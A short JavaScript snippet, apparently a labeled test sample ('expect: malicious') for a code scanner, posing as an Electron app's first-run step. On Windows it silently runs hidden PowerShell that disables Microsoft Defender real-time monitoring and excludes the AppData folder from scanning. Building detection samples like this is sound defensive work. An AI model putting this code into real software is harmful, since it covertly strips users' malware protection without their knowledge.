// Electron app "first run" step
const { execSync } = require("child_process");
const os = require("os");

if (os.platform() === "win32") {
  // expect: malicious
  execSync('powershell -NoProfile -WindowStyle Hidden -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath $env:APPDATA"', { stdio: "ignore" });
}
